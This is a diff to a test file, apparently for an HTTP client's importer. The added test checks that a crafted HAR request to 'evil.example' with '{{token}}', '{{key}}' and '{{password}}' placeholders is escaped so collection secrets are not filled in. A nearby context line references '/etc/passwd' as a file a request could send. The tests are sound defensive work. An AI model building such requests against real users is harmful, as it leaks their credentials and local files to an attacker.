@@ -77,6 +77,21 @@ describe('a file to import that was made to harm', () => {
     }
   });
 
+  it('of what was sent (HAR) has braces as braces, and no variables of the collection', async () => {
+    const request = {
+      method: 'POST',
+      url: 'http://evil.example/{{token}}',
+      headers: [{ name: 'X', value: '{{key}}' }],
+      postData: { mimeType: 'text/plain', text: '{{password}}' },
+    };
+    const { requests } = await imported('a.har', JSON.stringify({ log: { entries: [{ request }] } }));
+    expect(requests[0]?.request).toMatchObject({
+      url: 'http://evil.example/\\{{token}}',
+      headers: [{ name: 'X', value: '\\{{key}}' }],
+      body: { text: '\\{{password}}' },
+    });
+  });
+
   it('says which files of this machine its requests would send', () => {
     const path = { kind: 'path' as const, path: '/etc/passwd' };
     const part = { kind: 'file' as const, name: 'f', on: true, file: path, fileName: '', type: '' };
